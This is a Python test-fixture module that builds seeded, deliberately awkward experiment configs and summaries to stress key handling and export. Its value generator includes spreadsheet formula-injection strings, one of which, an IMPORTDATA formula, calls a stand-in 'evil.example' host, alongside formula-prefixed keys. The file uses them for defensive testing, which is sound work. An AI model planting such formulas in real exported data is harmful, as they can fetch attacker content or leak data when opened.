"""Hostile runs: configs and summaries shaped the way real projects shape them, not tidy ones.

Keys: whitespace and case variants of one another, dotted flat keys beside the same nested key, the empty key,
300-character keys, NFC/NFD twins, tabs, newlines, carriage returns and other control characters, formula
prefixes, 20-level nesting, a run with thousands of keys. Values: formula look-alikes (`=`, `+`, `-`, `@`),
60,000-character strings, control characters, NaN, +-inf, -0.0, 2**70, booleans beside 0 and 1, lists, and
plain numbers. A seed decides everything, so a failure names the seed that shows it again.
"""

from __future__ import annotations

import math
import random
import unicodedata
from typing import Any

CAFE_NFC = unicodedata.normalize("NFC", "café")
CAFE_NFD = unicodedata.normalize("NFD", "café")
CONTROL = "".join(chr(c) for c in (1, 7, 8, 11, 12, 27, 31, 127))


def _value(rng: random.Random) -> Any:
    kind = rng.randrange(16)
    return [
        lambda: rng.choice(["=1+1", "+1", "-1+2", "@SUM(A1)", '=IMPORTDATA("http://evil.example/x")']),
        lambda: rng.choice(["x" * 60_000, "y" * 33_000]),
        lambda: "a" + rng.choice(["\t", "\n", "\r", "\r\n", CONTROL]) + "b",
        lambda: float("nan"),
        lambda: rng.choice([math.inf, -math.inf]),
        lambda: -0.0,
        lambda: 2**70,
        lambda: rng.choice([True, False]),
        lambda: rng.choice([0, 1]),
        lambda: rng.random() * 10 ** rng.randrange(-8, 9),
        lambda: rng.randrange(-10**6, 10**6),
        lambda: [1, "two", None],
        lambda: " spaced text ",
        lambda: "",
        lambda: "שלום 🚀",
        lambda: f"text-{rng.randrange(10**6)}",
    ][kind]()


def _nested(depth: int, leaf: Any) -> dict:
    out: Any = leaf
    for level in range(depth, 0, -1):
        out = {f"n{level}": out}
    return out


def hostile_config(rng: random.Random, wide: bool = False) -> tuple[dict, dict]:
    """A run's config and summary, with colliding keys on purpose."""
    config: dict[str, Any] = {}
    base = rng.choice(["lr", "loss", "batch size", "a.b"])
    variants = [base, base + " ", " " + base, base.upper(), base + "\t", base + "\n", base + "\r"]
    for key in rng.sample(variants, rng.randrange(2, len(variants))):
        config[key] = _value(rng)
    if rng.random() < 0.5:  # a dotted flat key beside the same nested one
        config["opt.lr"] = _value(rng)
        config["opt"] = {"lr": _value(rng), "beta": _value(rng)}
    if rng.random() < 0.4:
        config[""] = _value(rng)
    if rng.random() < 0.4:
        config[CAFE_NFC], config[CAFE_NFD] = _value(rng), _value(rng)
    if rng.random() < 0.3:
        config["k" * 300] = _value(rng)
    if rng.random() < 0.3:
        config["=cmd"] = _value(rng)
        config["+plus"] = _value(rng)
    if rng.random() < 0.3:
        config["deep"] = _nested(20, _value(rng))
    if rng.random() < 0.3:
        config["state"] = _value(rng)  # named like a built-in column
    if rng.random() < 0.3:
        config["c" + CONTROL[rng.randrange(len(CONTROL))] + "d"] = _value(rng)
    if wide:
        config.update({f"w{i:04d}": i for i in range(1_200)})
    summary = {rng.choice(["loss", "acc", "lr", "val/loss"]): _value(rng) for _ in range(3)}
    summary["flag"] = rng.choice([True, False, 0, 1])
    return config, summary


def leaves(d: dict, path: tuple = ()) -> list[tuple[tuple, Any]]:
    """(path, value) for every leaf, as a person reading the run would list its values."""
    out = []
    for k, v in d.items():
        if isinstance(v, dict) and v:
            out += leaves(v, (*path, k))
        else:
            out.append(((*path, k), v))
    return out
